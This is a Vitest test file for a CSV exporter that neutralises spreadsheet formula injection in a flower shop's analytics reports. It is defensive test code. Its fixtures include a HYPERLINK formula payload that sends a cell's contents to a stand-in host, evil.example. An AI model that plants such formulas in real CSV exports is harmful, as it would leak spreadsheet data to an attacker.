import { describe, expect, it } from 'vitest';
import { analyticsCsv } from '../studio/reports/analytics-csv';
import { analyticsReport } from '../studio/reports/analytics-report';
import { formatCsv, neutralisedCell, parseCsv, restoredCell } from './csv';

const formulaLike = ['=1+2', '=HYPERLINK("http://evil.example/?"&A1;"Скидка")', '@SUM(A1)', '+7 916 555-44-33', '+79165554433', '-5% скидка', '-1+2', '\tтабуляция', '\rвозврат каретки'];

describe('CSV cells a spreadsheet would run (OWASP CSV injection)', () => {
  it('marks a cell starting with =, +, -, @, tab or carriage return with a quote in front and quotes it', () => {
    for (const value of formulaLike) {
      expect(neutralisedCell(value), value).toBe(`'${value}`);
      expect(formatCsv([[value]]), value).toBe(`"'${value.replace(/"/g, '""')}"\r\n`);
    }
    expect(formatCsv([['Имя', '=1+2', 'Анна']])).toBe(`Имя,"'=1+2",Анна\r\n`);
  });

  it('leaves plain numbers, negative ones too, and cells that only hold such characters further in', () => {
    for (const value of ['-1500', '-0.5', '12.5', '0', '1-2', 'Анна =1+2', 'a@example.ru', '']) {
      expect(neutralisedCell(value), value).toBe(value);
    }
    expect(formatCsv([['Остаток', '-1500', '12.5']])).toBe('Остаток,-1500,12.5\r\n');
    // Not numbers as we write them: a sign in front of digits only, a comma, an exponent.
    for (const value of ['+7', '-1,5', '-1e5', '- 1500']) expect(neutralisedCell(value), value).toBe(`'${value}`);
  });

  it('reads back exactly what was written, values that start with quotes of their own included', () => {
    const values = [...formulaLike, '-1500', "'", "'plain", "'=1+2", "''@x", "'-1500", "'\t", 'a,b;"c"', ' с пробелами ', 'строка 1\r\nстрока 2'];
    for (const value of values) expect(restoredCell(neutralisedCell(value)), JSON.stringify(value)).toBe(value);
    const rows = [values, ['79001234567', '=1+2']];
    expect(parseCsv(formatCsv(rows))?.map((r) => r.cells)).toEqual(rows);
  });

  it('takes the mark off a cell a spreadsheet saved again without the double quotes, and keeps a quote that is no mark', () => {
    expect(parseCsv("phone;name\r\n79001234567;'=1+2\r\n")?.[1].cells).toEqual(['79001234567', '=1+2']);
    expect(parseCsv("phone,name\r\n79001234567,'Анна\r\n")?.[1].cells).toEqual(['79001234567', "'Анна"]);
    expect(parseCsv("phone,name\r\n79001234567,'-1500\r\n")?.[1].cells).toEqual(['79001234567', "'-1500"]);
  });

  it('the analytics CSV neutralises a bouquet’s formula-looking name and keeps a negative figure a number', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1;"Скидка")';
    const report = analyticsReport(
      {
        orders: [{ id: 'o1', customer: '79001234567', date: '2026-11-10', status: 'done', deliveryPrice: 0, total: 5000, lines: [{ id: 'rose-box', name: evil, count: 1, sum: 5000 }] }],
        slips: [{ day: '2026-11-10', order: 'o1', lines: [{ flower: 'fl-rose', qty: 10, reason: 'assembly' }] }],
        prices: new Map([['fl-rose', [{ day: '2026-11-01', average: 200 }]]]),
        charges: [{ day: '2026-11-05', amount: 4500, category: 'rent' }],
        categoryOf: new Map([['rose-box', 'boxes']]),
        flowerNames: new Map([['fl-rose', '@Роза']]),
      },
      { from: '2026-11-10', to: '2026-11-10' },
    );
    const lines = analyticsCsv(report).split('\r\n');
    expect(lines).toContain(`"Топ букетов, ₽","'${evil.replace(/"/g, '""')}",5000,`);
    expect(lines).toContain(`"Топ цветов, шт.","'@Роза",10,`);
    expect(lines).toContain('Расходы месяца,Остаток маржи после расходов,-1500,');
  });
});
